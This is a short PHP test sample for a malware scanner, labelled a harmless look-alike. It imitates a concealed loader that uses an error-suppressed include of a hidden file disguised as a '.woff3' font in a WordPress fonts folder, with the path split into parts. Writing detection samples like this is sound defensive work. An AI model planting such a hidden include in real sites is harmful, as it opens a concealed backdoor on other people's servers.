<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
$parts = ['/home/acme/public_html/wp-includes/fonts', '.fa9e2b1c.woff3'];
@include implode('/', $parts);
